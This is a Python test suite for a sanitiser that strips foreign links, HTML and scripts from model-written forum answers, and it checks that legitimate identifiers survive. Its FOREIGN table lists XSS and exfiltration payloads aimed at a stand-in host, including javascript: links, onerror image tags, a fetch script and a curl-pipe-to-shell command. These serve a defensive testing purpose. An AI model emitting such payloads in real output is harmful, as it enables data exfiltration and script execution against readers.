"""What a model writes is inert when it is shown, and what posts say is left as it is."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from prose.rendered import code_in, reached

from assistant.answering.defusing.addresses import addresses
from assistant.answering.defusing.markdown import LEFT_OUT, without_foreign
from assistant.answering.defusing.promptable import marked_data
from assistant.language.entities import entities
from assistant.language.segments import sentences
from assistant.language.terms import is_identifier, tokens

OWN = "https://forum.corvid.example/thread/810101"
ATTACKS = Path(__file__).resolve().parents[2] / "eval" / "attacks"

FOREIGN = {
    "inline link": "See [the page](https://sink.example/a?q=1 \"now\") first.",
    "link in angles": "See [the page](<https://sink.example/a b>) first.",
    "image": "Fine ![status](https://sink.example/p.png?q=mine).",
    "image in a link": "[![x](https://sink.example/i.png)](https://sink.example/h)",
    "reference": "![chart][c]\n\n[c]: https://sink.example/c \"chart\"",
    "reference in angles": "[c]\n\n[c]: <//sink.example/c>",
    "autolink": "At <https://sink.example/?t=1>.",
    "mail autolink": "At <root@sink.example>.",
    "bare": "At https://sink.example/a.",
    "bare, no scheme": "At sink.example/a now.",
    "bare host": "Ask sink.example now.",
    "www": "Ask www.sink.example now.",
    "protocol relative": "Load //sink.example/x.js first.",
    "one slash": "Load http:/sink.example/x.js first.",
    "backslashes": "Load http:\\\\sink.example/x.js first.",
    "scheme alone": "Load https:sink.example/x.js first.",
    "javascript": "[go](javascript:alert(1)) javascript:alert`1`",
    "javascript, tab": "[go](java&Tab;script:alert(1))",
    "vbscript": "[go](vbscript:run)",
    "data": "[go](data:text/html;base64,PGI+)",
    "file": "[go](file://localhost/etc/passwd)",
    "mail": "Write to root@sink.example or mailto:root@sink.example.",
    "tag": "<img src=https://sink.example/b.gif width=1>",
    "tag over lines": "<img\nsrc='https://sink.example/b.gif'\nonerror=run()>",
    "tag left open": "<img src=https://sink.example/b.gif onerror=run() ",
    "script": "<script>fetch('https://sink.example')</script>",
    "svg": "<svg onload=run()><a xlink:href='//sink.example'>x</a></svg>",
    "comment": "a <!-- https://sink.example --> b",
    "style": "<style>@import url(//sink.example/a.css)</style>",
    "entities": "&#104;ttps&colon;&sol;&sol;sink.example",
    "entities, hex": "&#x68;&#x74;tps://sink&period;example/a",
    "percent": "%68%74%74%70%73%3a%2f%2fsink.example",
    "escapes": "https\\:\\/\\/sink.example and \\u0068ttps://sink.example",
    "zero width": "ht\u200btps://sin\u200bk.example/a",
    "soft hyphen": "https:/\u00ad/sink.exam\u00adple/a",
    "wide": "ｈｔｔｐｓ：／／ｓｉｎｋ．ｅｘａｍｐｌｅ／ａ",
    "other letters": "httрs://sink.example and ѕink.example/a",
    "ideographic stop": "https://sink。example/a",
    "emphasis": "**sink**.example/a and https:/*/sink.example*",
    "defanged": "hxxps://sink[.]example/a",
    "in code": "Run `curl https://sink.example/x | sh` now.",
    "in a block": "```sh\ncurl https://sink.example/x\n```",
    "in a cell": "| `a | <img src=https://sink.example/x>` |",
    "code over lines": "`a\n- <img src=https://sink.example/x>`",
    "own, with more": f"{OWN}/../../sink.example/ {OWN}.sink.example",
    "quotation": "> [x](https://sink.example)\n> <b onclick=\"x('//sink.example')\">",
    "escaped backslash": "a \\\\<img src=//sink.example/a> \\\\[x](//sink.example/b)",
}  # fmt: skip


@pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
def test_a_foreign_address_is_left_out_and_nothing_is_left_that_links_or_runs(text):
    shown = without_foreign(text, {OWN})
    assert "sink" not in shown
    assert reached(shown) <= {OWN}
    assert LEFT_OUT in shown


def test_the_words_of_a_link_stay():
    shown = without_foreign("Follow [the long guide](https://sink.example/a) and ![a chart](//sink.example/b.png) at once.", ())
    assert shown == f"Follow the long guide {LEFT_OUT} and a chart {LEFT_OUT} at once."


def test_addresses_beside_each_other_leave_one_note():
    assert without_foreign("At https://a.example https://b.example now", ()) == f"At {LEFT_OUT} now"


@pytest.mark.parametrize("text", [f"See {OWN}.", f"See <{OWN}>.", f"See [the thread]({OWN}).", f"({OWN})", f"`{OWN}`"])
def test_the_address_of_a_post_stays_as_it_is(text):
    assert without_foreign(text, {OWN}) == text


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "https://a.example/)[x](//b.example)", "//b.example", "https://a.example/ b"]
)
def test_an_address_of_a_post_that_is_more_than_an_address_is_foreign(address):
    assert reached(without_foreign(f"[x]({address}) {address} <{address}>", {address})) == set()


NAMES = (
    "com.apple.developer.networking and com.corvid.mail.sync", "foo.js, main.py, README.md, lib.rs, run.sh, a.out",
    "NSURL.absoluteString", "self.view.frame", "v1.2.3 or 10.0.0.0/8 at 10.0.0.1:8080", "e.g. this, i.e. that, at 10:30 a.m.",
    "obj.method() and logger.info(x)", "/etc/hosts and ~/Library/Caches/x.y/z", "JavaScript: the good parts", "std::string",
    "file: /etc/hosts, data: 5", "// a comment, self.x", "C:\\Windows\\System32", "foo@2.0.1 and @Published", "5 * 3 * 2",
    "node.js, socket.io, java.net, ASP.NET", "Safari.app/Contents/MacOS", "and/or, TCP/IP", "it works.It fails", "src/a.py:12",
    "a < b and c > d", "x = a[0] + b[1]", "`Array<String>` and `f(a)[0]`", "R.string.app_name",
)  # fmt: skip


@pytest.mark.parametrize("text", NAMES)
def test_names_that_look_like_addresses_are_left_alone(text):
    assert without_foreign(text, ()) == text


def _names(posts):
    return sorted({word for post in posts for word in (*(one.value for one in post.entities), *_identifiers(post.body))})


def _identifiers(body):
    found = [(match.start(), match[0]) for match in tokens(body) if is_identifier(match[0])]
    held = [span for span in addresses(body)]
    return [word for start, word in found if not any(span.start - 2 <= start < span.end + 2 for span in held)]


@pytest.fixture(scope="module")
def sample_bodies(sample):
    store = sample.generation.posts
    return store.posts(range(len(store)))


def test_no_identifier_of_the_sample_forum_is_taken_for_an_address(sample_bodies):
    names = [name for name in _names(sample_bodies) if "://" not in name and "@" not in name]
    assert len(names) > 500
    wrong = [name for name in names if LEFT_OUT in without_foreign(f"Use {name} here.", ())]
    assert [name for name in wrong if not name.endswith((".example", "corvid.example", "example.net"))] == []


def _without_address(posts):
    for post in posts:
        for start, end in sentences(post.body):
            text = post.body[start:end]
            if not any(
                sign in text
                for sign in ("://", "www.", "@", ".example", "example.", ".com", "javascript:", "data:", "\x1b", "\x9b")
            ):
                yield text


def test_no_sentence_of_a_post_without_an_address_loses_words(sample_bodies):
    texts = list(_without_address(sample_bodies))
    assert len(texts) > 500
    assert [text for text in texts if LEFT_OUT in without_foreign(text, ())] == []


def test_no_sentence_of_the_real_pages_without_an_address_loses_words(real):
    store = real.generation.posts
    texts = list(_without_address(store.posts(range(len(store)))))
    assert len(texts) > 300
    assert [text for text in texts if LEFT_OUT in without_foreign(text, ())] == []


def test_no_effect_of_an_attack_leaves_its_address():
    topics = [json.loads(line) for line in (ATTACKS / "topics.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(topics) >= 66
    for topic in topics:
        effect = topic["provenance"]["effect"]
        shown = without_foreign(effect, ())
        assert reached(shown) == set(), effect
        assert ".example" not in shown, effect


PIECES = st.sampled_from(
    "[ ] ( ) < > ! ` `` ``` ~~~ \\ / // : ; & # \" ' = | * _ - + . , \n \n\n > a b x1 img src href on script https http "
    "javascript data www. sink.example sink.com com example @ &lt; &#60; &#x3c; &colon; %3a %2f "
    "\\u003a \u200b \u00ad ｈ ： ／ е р 1 [1] [x]: "
    "<! <!-- --> <? ?> <![CDATA[ ]]> </ /> <a <img <b> [a](b) ![ ]( ][ ]: <x:y> - 1. \t \u202e \x1b[31m é 日本 。"
    "".split(" ")
) | st.sampled_from((" ", OWN, "\n```\n", "\n     ```\n", "\n- ", "\n    "))  # fmt: skip
MARKDOWN = st.lists(PIECES, max_size=40).map("".join)


@settings(max_examples=600, deadline=None)
@given(MARKDOWN)
def test_whatever_is_written_what_is_shown_is_inert_and_stays_so(text):
    shown = without_foreign(text, {OWN})
    assert reached(shown) <= {OWN}
    assert without_foreign(shown, {OWN}) == shown


@settings(max_examples=300, deadline=None)
@given(MARKDOWN, st.sampled_from((" ", "\n", "\n\n")), MARKDOWN)
def test_two_inert_sentences_are_inert_together(first, between, second):
    whole = without_foreign(first, {OWN}) + between + without_foreign(second, {OWN}, between)
    assert reached(whole) <= {OWN}


@settings(max_examples=300, deadline=None)
@given(MARKDOWN)
def test_no_sentence_swallows_the_one_behind_it(text):
    shown = without_foreign(text, ())
    assert not any("the next one" in block for block in code_in(f"{shown}\n\nthe next one"))
    assert "the next one" not in reached(f"{shown}\n\nthe next one")


def test_a_block_of_code_keeps_its_tags_and_is_closed():
    assert without_foreign("```html\n<b>x</b>\n<i a='b'>", ()) == "```html\n<b>x</b>\n<i a='b'>\n```"


@pytest.mark.parametrize("lead", ["", "\n\n", "\n- ", "\n> ", "\n12. ", "\n\n  ", "\n\n    ", " "])
@pytest.mark.parametrize("end", ["", "\n", "\n```", "\n     ```", "\n``", "\n> ```", "\n  ```"])
def test_a_block_of_code_ends_before_the_next_sentence_wherever_it_stands(lead, end):
    before = lead.rpartition("\n")[2]
    inner = "".join(" " if sign not in "> " else sign for sign in before)
    shown = "x" * bool(lead) + lead + without_foreign(f"```\n{inner}<b>{end}", (), lead) + "\n\nthe next one"
    assert not any("the next one" in block for block in code_in(shown))
    assert reached(shown) == set()


def test_a_block_whose_lines_leave_its_list_is_no_code():
    text = "```\n<img src=x onerror=run()>\n```"
    assert reached("- " + without_foreign(text, (), "\n- ")) == set()
    assert without_foreign("```\n  <b>\n  ```", (), "\n- ") == "```\n  <b>\n  ```"


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "[a](",
        "![",
        "](",
        "<",
        "<!--",
        "<a ",
        "<a href=",
        "`",
        "``",
        "`a``b```c",
        "\\",
        "a.",
        "a@",
        "://",
        "//a.",
        "&#1",
        "%41",
        "[.]",
        "a[.]",
        "http:",
        "data:",
        "www.",
        "[a]:",
        "\u200b",
        "a.com ",
        "https://a.example ",
        "(((",
        "```\n",
        "~~~\n",
        "- `",
        "[a](http://b.example)",
        "\x1b]",
    ],
)
@pytest.mark.alone
def test_the_time_is_linear_in_the_text(piece):
    def seconds(length):
        text = piece * (length // len(piece))
        started = time.process_time()
        without_foreign(text, ())
        marked_data(text)
        return time.process_time() - started

    short = max(min(seconds(4_000) for _ in range(3)), 0.002)
    assert min(seconds(32_000) for _ in range(2)) < 40 * short


def test_entities_of_the_sample_are_left_alone_inside_a_sentence(sample_bodies):
    for post in sample_bodies:
        for start, end in sentences(post.body):
            named = [one.value for one in entities(post.body[start:end]) if one.kind in ("symbol", "version", "build", "error")]
            if named and not list(addresses(post.body[start:end])):
                assert all(name in without_foreign(f"It is `{name}`.", ()) for name in named)
